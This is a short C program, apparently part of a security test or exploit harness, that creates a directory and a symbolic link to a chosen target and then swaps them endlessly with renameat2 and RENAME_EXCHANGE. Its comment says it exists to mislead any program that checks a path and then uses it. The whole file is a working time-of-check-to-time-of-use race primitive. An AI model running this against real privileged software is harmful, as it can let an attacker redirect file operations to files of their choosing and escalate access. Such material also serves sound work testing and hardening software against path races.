/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Exchanges a directory with a symbolic link that leads to its second argument, without end: whoever
 * checks a path and then uses it is led astray.
 */
#include "attack.h"

#include <fcntl.h>
#include <sys/stat.h>

int main(int argc, char *argv[])
{
	char link[4200];

	if (argc != 3)
		return 2;
	snprintf(link, sizeof(link), "%s.link", argv[1]);
	mkdir(argv[1], 0777);
	if (symlink(argv[2], link) < 0)
		return 1;
	printf("up\n");
	fflush(stdout);
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, link, RENAME_EXCHANGE);
}
